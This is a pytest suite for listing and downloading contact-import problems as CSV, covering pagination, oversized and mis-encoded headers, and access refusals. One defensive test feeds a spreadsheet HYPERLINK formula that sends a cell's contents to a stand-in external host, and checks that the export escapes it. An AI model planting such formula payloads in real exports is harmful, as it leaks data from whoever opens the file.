"""What was wrong in an import: page by page, and as a CSV file."""

import csv
import io
from collections.abc import AsyncIterator
from typing import Any
from uuid import uuid4

import grpc
import pytest

from outreach.client import OutreachClient
from outreach.client.errors import CallError
from tests.contact_rig import ContactRig, add_organisation, contact_rig, csv_of, mapping, number


@pytest.fixture
async def rig(database_dsn: str) -> AsyncIterator[ContactRig]:
    async with contact_rig(database_dsn) as rig:
        yield rig


async def downloaded(rig: ContactRig, campaign_id: str) -> list[list[str]]:
    pieces = [piece async for piece in rig.client.download_contact_problems(campaign_id)]
    assert all(0 < len(piece) <= 64 * 1024 for piece in pieces)
    return list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline=""), strict=True))


async def test_first_thousand_page_by_page_and_all_as_csv(rig: ContactRig) -> None:
    bad = 2_500
    result = await rig.imported(csv_of(f"{number(1)},Ann", *(f"x{n},Ben" for n in range(bad))))
    campaign_id = result.campaign.id
    assert len(result.problems) == 20
    page = await rig.client.list_contact_problems(campaign_id)
    assert len(page.problems) == 100
    assert list(page.problems[:20]) == list(result.problems)
    listed = [problem async for problem in rig.client.all_contact_problems(campaign_id)]
    assert [problem.row for problem in listed] == list(range(3, 1_003))
    assert {problem.reason for problem in listed} == {"ROW_INVALID_RECIPIENT"}
    assert not any("x1" in problem.description for problem in listed)

    sizes, token = [], ""
    while True:
        page = await rig.client.list_contact_problems(campaign_id, page_size=300, page_token=token)
        sizes.append(len(page.problems))
        token = page.next_page_token
        if not token:
            break
    assert sizes == [300, 300, 300, 100]

    rows = await downloaded(rig, campaign_id)
    assert rows[0] == ["row", "column", "reason", "description"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(3, bad + 3)]
    assert rows[1][1:3] == ["phone", "ROW_INVALID_RECIPIENT"]


async def test_no_problems(rig: ContactRig) -> None:
    campaign_id = (await rig.imported(csv_of(f"{number(1)},Ann"))).campaign.id
    page = await rig.client.list_contact_problems(campaign_id)
    assert (list(page.problems), page.next_page_token) == ([], "")
    assert await downloaded(rig, campaign_id) == [["row", "column", "reason", "description"]]


async def test_columns_that_a_spreadsheet_would_run(rig: ContactRig) -> None:
    """A header is the uploader's text; whoever opens the problems must not run it."""
    name = '=HYPERLINK("http://x.example/?"&A1,"a, ""b""")'
    quoted = name.replace('"', '""')
    data = f'"{quoted}",name\n{number(1)},Ann\n+1,Ben\n'.encode()
    campaign_id = await rig.campaign()
    upload_id = await rig.uploaded(campaign_id, data)
    await rig.client.import_contacts(campaign_id, upload_id, mapping=mapping((name, 1, "")))
    rows = await downloaded(rig, campaign_id)
    assert rows[1][1] == f"'{name}"
    page = await rig.client.list_contact_problems(campaign_id)
    assert page.problems[0].column == name


async def test_long_and_undecodable_columns(rig: ContactRig) -> None:
    header = "phone " + '"é' * 50_000
    column = header[:200]
    quoted = header.replace('"', '""')
    data = f'"{quoted}",name\n'.encode() + "".join(f"x{n},Ben\n" for n in range(2_000)).encode()
    campaign_id = await rig.campaign()
    data += f"{number(1)},Ann\n".encode()
    upload_id = await rig.uploaded(campaign_id, data)
    await rig.client.import_contacts(campaign_id, upload_id, mapping=mapping((column, 1, "")))
    listed = [problem async for problem in rig.client.all_contact_problems(campaign_id)]
    assert len(listed) == 1_000
    rows = await downloaded(rig, campaign_id)
    assert len(rows) == 2_001
    assert {row[1] for row in rows[1:]} == {column}

    # A header that breaks the file's encoding: UTF-8 elsewhere, one Latin-1 byte here.
    data = b"phone,n\xe9m\n" + "".join(f"{number(n)},Zoë é ü\n" for n in range(20)).encode()
    campaign_id = await rig.campaign("Hello")
    upload = await rig.client.upload_contacts(campaign_id, data, consent_confirmed=True)
    assert upload.columns[1].name == "n?m"
    result = await rig.client.import_contacts(campaign_id, upload.id)
    assert result.campaign.contacts.imported == 20


async def refused(call: Any) -> CallError:
    with pytest.raises(CallError) as caught:
        await call
    return caught.value


async def test_refusals(rig: ContactRig) -> None:
    campaign_id = (await rig.imported(csv_of(f"{number(1)},Ann", "x,Ben", "y,Cid"))).campaign.id
    for size in (-1, 1_001):
        error = await refused(rig.client.list_contact_problems(campaign_id, page_size=size))
        assert [(v.field, v.reason) for v in error.violations] == [
            ("page_size", "FIELD_OUT_OF_RANGE")
        ]
    page = await rig.client.list_contact_problems(campaign_id, page_size=1)
    assert page.next_page_token
    other = await rig.campaign()
    error = await refused(rig.client.list_contact_problems(other, page_token=page.next_page_token))
    assert (error.code, error.reason) == (
        grpc.StatusCode.INVALID_ARGUMENT,
        "PAGE_TOKEN_INVALID",
    )
    error = await refused(rig.client.list_contact_problems("42"))
    assert [(v.field, v.reason) for v in error.violations] == [("campaign_id", "FIELD_INVALID")]
    async with OutreachClient(rig.address, await add_organisation(rig.pool)) as stranger:
        for client, unseen in ((rig.client, str(uuid4())), (stranger, campaign_id)):
            error = await refused(client.list_contact_problems(unseen))
            assert (error.code, error.reason) == (
                grpc.StatusCode.NOT_FOUND,
                "CAMPAIGN_NOT_FOUND",
            )
            error = await refused(anext(client.download_contact_problems(unseen)))
            assert error.reason == "CAMPAIGN_NOT_FOUND"
